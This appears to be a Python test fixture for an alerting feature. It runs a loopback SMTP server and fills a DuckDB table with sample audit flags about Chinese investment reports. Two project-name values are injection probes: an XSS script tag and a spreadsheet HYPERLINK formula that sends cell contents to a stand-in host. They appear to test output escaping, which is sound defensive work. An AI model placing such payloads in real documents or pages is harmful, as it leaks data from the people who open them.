"""Alert test support: a real SMTP server (aiosmtpd) on loopback and a published warehouse with flags."""

from __future__ import annotations

import socket
from email import policy
from email.parser import BytesParser

import duckdb


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Inbox:
    """Collects what the SMTP server accepted, parsed as e-mail messages."""

    def __init__(self):
        self.envelopes = []

    async def handle_DATA(self, server, session, envelope):
        self.envelopes.append(envelope)
        return "250 OK"

    @property
    def messages(self):
        return [BytesParser(policy=policy.default).parsebytes(e.content) for e in self.envelopes]


class SmtpServer:
    def __init__(self, port: int):
        from aiosmtpd.controller import Controller

        self.port = port
        self.inbox = Inbox()
        self.controller = Controller(self.inbox, hostname="127.0.0.1", port=port)

    @property
    def url(self) -> str:
        return f"smtp://127.0.0.1:{self.port}"

    def start(self):
        self.controller.start()
        return self

    def stop(self):
        self.controller.stop()


PHONE = "13812345678"

FLAGS = [
    # flag_key, rule, severity, unit, year, month, project, file, sheet, row, evidence
    (
        "k-old-1",
        "OLD_AS_NEW",
        "high",
        "济阳镇",
        2021,
        3,
        "年产万吨面粉加工项目",
        "2021/济阳镇3月.xlsx",
        "Sheet1",
        5,
        "本行填为“新引进”，但同一投资方的项目已于2020年5月由济阳镇报送。",
    ),
    (
        "k-old-2",
        "OLD_AS_NEW",
        "low",
        "济阳镇",
        2021,
        3,
        "食品产业园二期",
        "2021/济阳镇3月.xlsx",
        "Sheet1",
        6,
        "项目名称含“二期”，无法判断是否为独立签约的二期项目。",
    ),
    (
        "k-inf-1",
        "INFLATED_AMOUNT",
        "high",
        "济阳镇",
        2021,
        4,
        "<script>alert('x')</script>物流园",
        "2021/济阳镇4月.xlsx",
        "Sheet1",
        7,
        "累计到位资金1,500万元超过计划总投资1,000万元。",
    ),
    (
        "k-dup-1",
        "DUPLICATE_CLAIM",
        "high",
        "城关镇",
        2021,
        3,
        '=HYPERLINK("http://x.example/?"&A1,"点击")',
        "2021/城关镇3月.xlsx",
        "Sheet1",
        9,
        "同一项目2021年被2个单位申报：济阳镇（100%）、城关镇（100%）；合计200%。",
    ),
    (
        "k-miss-1",
        "MISSING_REPORT",
        "medium",
        "财政局",
        2021,
        2,
        None,
        None,
        None,
        None,
        "财政局没有报送2021年2月的月报。",
    ),
    (
        "k-uscc-1",
        "INVALID_USCC",
        "medium",
        "城关镇",
        2021,
        3,
        f"联系人{PHONE}的项目",
        "2021/城关镇3月.xlsx",
        "Sheet1",
        10,
        "统一社会信用代码校验码错误。",
    ),
]
COLUMNS = (
    "flag_key",
    "rule",
    "severity",
    "unit_name",
    "year",
    "month",
    "project_name",
    "source_file",
    "sheet",
    "row_number",
    "evidence",
)


def publish_flags(settings, rows=FLAGS, status: dict | None = None) -> None:
    """Write a published warehouse holding audit.dq_flags (what dbt pass 2 publishes)."""
    settings.warehouse.parent.mkdir(parents=True, exist_ok=True)
    if settings.warehouse.exists():
        settings.warehouse.unlink()
    with duckdb.connect(str(settings.warehouse)) as con:
        con.execute("create schema audit")
        con.execute(
            """create table audit.dq_flags (flag_key varchar, rule varchar, severity varchar,
               unit_name varchar, year integer, month integer, project_name varchar,
               source_file varchar, sheet varchar, row_number integer, evidence varchar,
               status varchar)"""
        )
        for row in rows:
            con.execute(
                "insert into audit.dq_flags values (?,?,?,?,?,?,?,?,?,?,?,?)",
                [*row, (status or {}).get(row[0], "open")],
            )
